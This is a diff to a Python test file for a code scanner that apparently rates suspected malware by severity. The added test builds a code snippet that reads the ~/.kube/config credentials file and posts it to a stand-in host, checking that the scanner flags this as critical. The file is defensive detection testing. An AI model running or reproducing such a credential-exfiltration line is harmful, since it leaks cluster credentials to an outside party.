@@ -126,6 +126,19 @@ def test_a_server_that_runs_what_it_is_told_is_looked_at() -> None:
     assert worst("dropper", early, "sample/__init__.py") is Severity.CRITICAL
 
 
+@pytest.mark.parametrize(
+    ("host", "severity"),
+    [("login.microsoftonline.com", Severity.MEDIUM), ("a.example.invalid", Severity.CRITICAL)],
+)
+def test_a_login_of_a_cloud_is_renewed_there(host: str, severity: Severity) -> None:
+    text = (
+        "import os, requests\ndef renew():\n"
+        "    told = open(os.path.expanduser('~/.kube/config')).read()\n"
+        f"    requests.post('https://{host}/token', data=told)\n"
+    )
+    assert worst("stealer", text) is severity
+
+
 CPUID = "[0x53, 0x89, 0xf0, 0x89, 0xd1, 0x0f, 0xa2, 0x89, 0x07, 0x5b, 0xc3]"
 CALLS_SYSTEM = "[0x53, 0x89, 0xf0, 0x0f, 0xa2, 0x48, 0x31, 0xc0, 0xb0, 0x3b, 0x0f, 0x05, 0xc3]"
 MEMORY = """
